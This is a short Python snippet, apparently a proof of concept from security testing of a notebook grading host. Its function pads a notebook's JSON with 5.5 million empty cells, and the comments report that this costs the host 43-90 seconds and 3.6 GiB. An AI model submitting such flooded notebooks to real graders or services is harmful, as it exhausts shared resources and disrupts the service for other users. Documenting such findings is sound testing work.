# place: end
# Not code: flooded(notebook_bytes) below puts 5.5 million empty cells ({}) before the
# notebook's own, 16 MiB in all (the limit is 64 MiB). The host parsed all of them, turned
# each into a notebook node and named each in the row's message: 43-90 s and 3.6 GiB (an
# honest notebook: 10 s and 0.35 GiB for the whole grading process).
def flooded(notebook_bytes: bytes, cells: int = 5_500_000) -> bytes:
    return notebook_bytes.replace(b'"cells": [', b'"cells": [' + b"{}," * cells, 1)
